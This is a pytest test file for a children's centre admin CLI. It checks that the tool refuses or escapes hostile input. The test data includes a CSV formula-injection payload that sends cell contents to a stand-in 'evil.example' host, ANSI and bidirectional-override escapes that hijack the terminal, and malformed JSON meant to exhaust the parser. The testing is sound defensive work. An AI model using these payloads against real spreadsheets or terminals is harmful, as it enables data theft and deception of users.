"""Issue 8 findings 7, 9 and 10 (file modes) through ``centre-desk-admin`` run as a real process
against a real encrypted store: hostile names are refused or shown escaped, CSV cells cannot be
formulas, malformed imports get one clear line and import nothing, saved files are private."""

from __future__ import annotations

import csv
import json
import os
import stat
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.integration.test_admin_cli import run
from tests.integration.test_households_cli import IOANA, ZOFIA

CSV_HEADER = "household,address_line1,address_line2,town,postcode,phone,email,first_name,last_name,date_of_birth,role"
POSIX_ONLY = pytest.mark.skipif(sys.platform == "win32", reason="POSIX file modes")


@pytest.fixture
def umask_022():  # type: ignore[no-untyped-def]
    """The usual umask, under which an ordinary write makes a file everyone can read (0644)."""
    old = os.umask(0o022)
    yield
    os.umask(old)


@pytest.fixture(scope="module")
def desk(tmp_path_factory: pytest.TempPathFactory) -> Path:
    data = tmp_path_factory.mktemp("defences") / "data"
    r = run(data, "init", "--profile", "north-somerset-children-centres", "--centre-name", "Seaside Centre",
            "--admin", "admin")
    assert r.returncode == 0, r.stderr
    return data


def copy(record: dict[str, Any]) -> dict[str, Any]:
    return json.loads(json.dumps(record))


def import_file(data: Path, path: Path, *extra: str) -> Any:
    return run(data, "--user", "admin", "import", "--form", "membership", *extra, str(path))


def search_json(data: Path, query: str) -> list[dict[str, Any]]:
    r = run(data, "--user", "admin", "search", query, "--json")
    assert r.returncode == 0, r.stderr
    return [json.loads(line) for line in r.stdout.splitlines()]


def assert_refused_in_one_line(r: Any, *words: str) -> None:
    assert r.returncode == 1, r.stdout
    lines = r.stderr.strip().splitlines()
    assert len(lines) == 1, lines
    assert "unexpected internal error" not in r.stderr
    assert "nothing was imported" in lines[0]
    for word in words:
        assert word in lines[0], lines[0]


# --- finding 7: names that drive the terminal -------------------------------------------------------------------


@pytest.mark.parametrize(("what", "name"), [("NUL", "Ev\x00il"), ("BEL", "Ev\x07il"), ("ANSI", "\x1b[31mEvil"),
                                             ("RLO", "Evil\u202egpj")])
def test_import_refuses_names_with_control_or_override_characters(desk: Path, tmp_path: Path, what: str,
                                                                  name: str) -> None:
    bad = copy(IOANA)
    bad["members"][0]["first_name"] = name
    src = tmp_path / "bad.json"
    src.write_text(json.dumps({"households": [copy(ZOFIA), bad]}), encoding="utf-8")
    r = import_file(desk, src)
    assert r.returncode == 1
    assert "record 2: members[0].first_name: must not contain" in r.stderr
    assert search_json(desk, "Rădulescu") == [] and search_json(desk, "Wiśniewska") == []


def test_search_escapes_a_stored_name_that_an_old_store_holds(store, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """A store written before the checks (or by an old import) may hold such a name: printing it must
    not recolour the terminal or reverse the line."""
    from centre_desk.services.auth import sign_in, sign_out
    from centre_desk.services.households import build_household
    from centre_desk.wiring import Wiring

    hostile = "\x1b[31mZed\x07\u202eyrneH\x9b2J"
    w = Wiring(store.data_dir)
    session = sign_in(w.gate, w.throttle, w.clock, store.admin, store.password)
    data = copy(IOANA) | {"members": [{"first_name": hostile, "last_name": "Quillfeather", "role": "carer"}]}
    with session.uow() as uow:  # straight into the store, past the checks, as an old version did
        uow.households.add_many([build_household(data, session.clock.now())], session.actor.id)
        uow.commit()
    sign_out(session)

    text = run(store.data_dir, "--user", store.admin, "search", "Quillfeather", password=store.password)
    assert text.returncode == 0, text.stderr
    for raw in ("\x1b", "\x07", "\u202e", "\x9b"):
        assert raw not in text.stdout
    assert "\\x1b[31mZed\\x07\\u202eyrneH\\x9b2J Quillfeather" in text.stdout

    js = run(store.data_dir, "--user", store.admin, "search", "Quillfeather", "--json", password=store.password)
    assert js.returncode == 0
    for raw in ("\x1b", "\x07", "\u202e", "\x9b"):
        assert raw not in js.stdout
    (line,) = js.stdout.splitlines()
    assert json.loads(line)["members"][0]["first_name"] == hostile  # still exact for a program reading it


# --- finding 7: CSV cells that a spreadsheet runs ------------------------------------------------------------------


@POSIX_ONLY
@pytest.mark.usefixtures("umask_022")
def test_mailing_list_cells_cannot_be_formulas_and_the_file_is_private(tmp_path: Path) -> None:
    data = tmp_path / "data"
    assert run(data, "init", "--profile", "north-somerset-children-centres", "--centre-name", "Seaside",
               "--admin", "admin").returncode == 0
    family = copy(ZOFIA)
    formula = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
    family["members"][0]["first_name"] = formula
    family["members"][0]["last_name"] = "+SUM(1,2)"
    src = tmp_path / "in.json"
    src.write_text(json.dumps({"households": [family]}), encoding="utf-8")
    assert import_file(data, src).returncode == 0
    (hit,) = search_json(data, "zofia@example.org")
    parent = hit["members"][0]["person_id"]
    give = run(data, "--user", "admin", "consent", "give", hit["household_id"], "--person", parent,
               "--purpose", "email-contact")
    assert give.returncode == 0, give.stderr

    out = tmp_path / "list.csv"
    r = run(data, "--user", "admin", "mailing-list", "--out", str(out))
    assert r.returncode == 0, r.stderr
    with out.open(encoding="utf-8", newline="") as fh:
        (row,) = list(csv.DictReader(fh))
    assert row["first_name"] == "'" + formula
    assert row["last_name"] == "'+SUM(1,2)"
    assert row["email"] == "zofia@example.org"
    assert stat.S_IMODE(out.stat().st_mode) == 0o600


@POSIX_ONLY
@pytest.mark.usefixtures("umask_022")
def test_pdfs_and_backups_written_by_the_admin_tool_are_private(desk: Path, tmp_path: Path) -> None:
    pdf = tmp_path / "notice.pdf"
    assert run(desk, "--user", "admin", "notice", "--out", str(pdf)).returncode == 0
    pdf.write_bytes(b"")  # replacing an existing file must not keep its old, wider mode
    pdf.chmod(0o644)
    assert run(desk, "--user", "admin", "blank-form", "membership", "--out", str(pdf)).returncode == 0
    backup = tmp_path / "desk.cdbackup"
    assert run(desk, "--user", "admin", "backup", "--out", str(backup)).returncode == 0
    for path in (pdf, backup):
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path.name
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]


# --- finding 9: import oddities -------------------------------------------------------------------------


def test_csv_rows_with_a_blank_household_are_refused_not_merged(desk: Path, tmp_path: Path) -> None:
    src = tmp_path / "blank.csv"
    src.write_text(
        f"{CSV_HEADER}\n"
        ",5 Church Lane,,Nailsea,BS48 1AB,,,Hodan,Warsame,1993-05-06,parent\n"
        ",9 Other Road,,Clevedon,BS21 6XY,,,Mahad,Stranger,1980-02-01,parent\n",
        encoding="utf-8")
    r = import_file(desk, src)
    assert r.returncode == 1
    assert "row 2, column household: is blank" in r.stderr
    assert "row 3, column household: is blank" in r.stderr
    assert search_json(desk, "Warsame") == [] and search_json(desk, "Stranger") == []


def test_two_families_under_one_reference_are_refused(desk: Path, tmp_path: Path) -> None:
    src = tmp_path / "clash.csv"
    src.write_text(
        f"{CSV_HEADER}\n"
        "A1,5 Church Lane,,Nailsea,BS48 1AB,,,Hodan,Warsame,1993-05-06,parent\n"
        "A1,,,,,,,Mahad,Warsame,2023-02-01,child\n"
        "A1,9 Other Road,,Clevedon,BS21 6XY,,,Abel,Stranger,1980-02-01,parent\n",
        encoding="utf-8")
    r = import_file(desk, src)
    assert r.returncode == 1
    assert "row 4, column address_line1: differs from the first row of its household" in r.stderr
    assert "9 Other Road" not in r.stderr and "BS21" not in r.stderr
    assert search_json(desk, "Warsame") == []


@pytest.mark.parametrize(
    ("header", "row", "expected"),
    [
        (CSV_HEADER + ",notes", "A1,1 Lane,,Town,BS48 1AB,,,Ann,Lee,1990-01-01,parent,x",
         "column 12 (notes): is not a field of the membership form"),
        (CSV_HEADER + ",first_name", "A1,1 Lane,,Town,BS48 1AB,,,Ann,Lee,1990-01-01,parent,Bob",
         "column 12 (first_name): appears twice in the header row"),
        (CSV_HEADER + ",", "A1,1 Lane,,Town,BS48 1AB,,,Ann,Lee,1990-01-01,parent,x",
         "column 12: has no name in the header row"),
        (CSV_HEADER + ",id", "A1,1 Lane,,Town,BS48 1AB,,,Ann,Lee,1990-01-01,parent,0190c0de-0000-7000-8000-0000",
         "column 12 (id): person ids are given by Centre Desk"),
        (CSV_HEADER, "A1,1 Lane,,Town,BS48 1AB,,,Ann,Lee,1990-01-01,parent,extra",
         "row 2: has more cells than the header row has columns"),
    ],
    ids=["unknown", "duplicate", "unnamed", "person-id", "extra-cell"],
)
def test_csv_columns_are_never_dropped_silently(desk: Path, tmp_path: Path, header: str, row: str,
                                                expected: str) -> None:
    src = tmp_path / "cols.csv"
    src.write_text(f"{header}\n{row}\n", encoding="utf-8")
    r = import_file(desk, src)
    assert r.returncode == 1
    assert expected in r.stderr
    assert "unexpected internal error" not in r.stderr
    assert search_json(desk, "Lee") == []


def test_json_import_refuses_supplied_person_ids(desk: Path, tmp_path: Path) -> None:
    family = copy(IOANA)
    family["members"][0]["id"] = "0190c0de-0000-7000-8000-000000000001"
    src = tmp_path / "ids.json"
    src.write_text(json.dumps({"households": [family]}), encoding="utf-8")
    r = import_file(desk, src)
    assert r.returncode == 1
    assert "record 1: members[0].id: person ids are given by Centre Desk" in r.stderr
    assert search_json(desk, "Rădulescu") == []


def test_import_refuses_contact_dates_before_1900_and_overlong_notes(desk: Path, tmp_path: Path) -> None:
    family = copy(IOANA)
    family["contacts"] = [{"date": "0001-01-01", "type": "drop-in"}]
    family["members"][0]["disabilities"] = "x" * 130_000
    src = tmp_path / "old.json"
    src.write_text(json.dumps({"households": [family]}), encoding="utf-8")
    r = import_file(desk, src)
    assert r.returncode == 1
    assert "record 1: contacts[0].date: is before 01/01/1900" in r.stderr
    assert "record 1: members[0].disabilities: is longer than 2,000 characters" in r.stderr


def _deep(depth: int) -> str:
    return '{"households": [' + "[" * depth + "]" * depth + "]}"


MALFORMED: dict[str, tuple[str, bytes, str]] = {
    "deeply nested JSON": ("json", _deep(100_000).encode(), "nested too deeply"),
    "nested past the limit": ("json", _deep(200).encode(), "nested more than 16 levels"),
    "5000-digit number": ("json", b'{"households": [{"phone": ' + b"9" * 5000 + b"}]}", "number too long"),
    "not JSON": ("json", b'{"households": [', "is not valid JSON (line 1"),
    "duplicate key": ("json", b'{"households": [], "households": []}', "'households' appears twice"),
    "non-UTF-8": ("csv", CSV_HEADER.encode() + b"\nA1,1 Lane,,Town,BS48 1AB,,,J\xf6rg,Lee,1990-01-01,parent\n",
                  "not UTF-8 text"),
    "UTF-16 with BOM": ("csv", ("\ufeff" + CSV_HEADER + "\n").encode("utf-16-le"), "is UTF-16 text"),
    "binary": ("csv", bytes(range(256)) * 8, "is a binary file"),
    "empty CSV": ("csv", b"", "is empty"),
    "CSV cell over the reader's limit": ("csv", CSV_HEADER.encode() + b'\nA1,"' + b"x" * 200_000 + b'"\n',
                                         "cannot be read as CSV"),
}


@pytest.mark.parametrize(("kind", "content", "expected"), MALFORMED.values(), ids=MALFORMED.keys())
def test_every_malformed_file_gets_one_clear_line(desk: Path, tmp_path: Path, kind: str, content: bytes,
                                                 expected: str) -> None:
    src = tmp_path / f"members.{kind}"
    src.write_bytes(content)
    assert_refused_in_one_line(import_file(desk, src), expected)


def test_lone_surrogates_in_json_are_refused_naming_the_field(desk: Path, tmp_path: Path) -> None:
    src = tmp_path / "surrogate.json"
    text = json.dumps({"households": [copy(IOANA)]}).replace("Ioana", "Io\\ud800ana")
    src.write_text(text, encoding="utf-8")
    r = import_file(desk, src)
    assert r.returncode == 1
    assert "record 1: members[0].first_name: contains characters that are not valid text" in r.stderr
    assert "unexpected internal error" not in r.stderr


def test_a_byte_order_mark_is_not_a_column_name(desk: Path, tmp_path: Path) -> None:
    src = tmp_path / "excel.csv"
    src.write_bytes(b"\xef\xbb\xbf" + CSV_HEADER.encode() + "\nB7,2 Hill Road,,Nailsea,BS48 2AB,,,Maëlle,Quenby,"
                    "1990-01-01,parent\n".encode())
    r = import_file(desk, src)
    assert r.returncode == 0, r.stderr
    assert [m["first_name"] for m in search_json(desk, "Quenby")[0]["members"]] == ["Maëlle"]


# --- contact notes and dates given on the command line ---------------------------------------------------------


def test_contact_add_refuses_old_dates_control_characters_and_long_notes(desk: Path, tmp_path: Path) -> None:
    family = copy(IOANA)
    family["members"][0]["last_name"] = "Contactova"
    src = tmp_path / "one.json"
    src.write_text(json.dumps({"households": [family]}), encoding="utf-8")
    assert import_file(desk, src).returncode == 0
    hid = search_json(desk, "Contactova")[0]["household_id"]
    old = run(desk, "--user", "admin", "contact", "add", hid, "--type", "session", "--date", "0001-01-01")
    assert old.returncode == 1 and "date: is before 01/01/1900" in old.stderr
    ansi = run(desk, "--user", "admin", "contact", "add", hid, "--type", "session", "--date", "2026-01-05",
               "--note", "fine\x1b]0;owned\x07")
    assert ansi.returncode == 1 and "note: must not contain control characters" in ansi.stderr
    long = run(desk, "--user", "admin", "contact", "add", hid, "--type", "session", "--date", "2026-01-05",
               "--note", "x" * 2001)
    assert long.returncode == 1 and "note: is longer than 2,000 characters" in long.stderr
    ok = run(desk, "--user", "admin", "contact", "add", hid, "--type", "session", "--date", "2026-01-05",
             "--note", "Came to stay and play.\nAsked about speech therapy.")
    assert ok.returncode == 0, ok.stderr
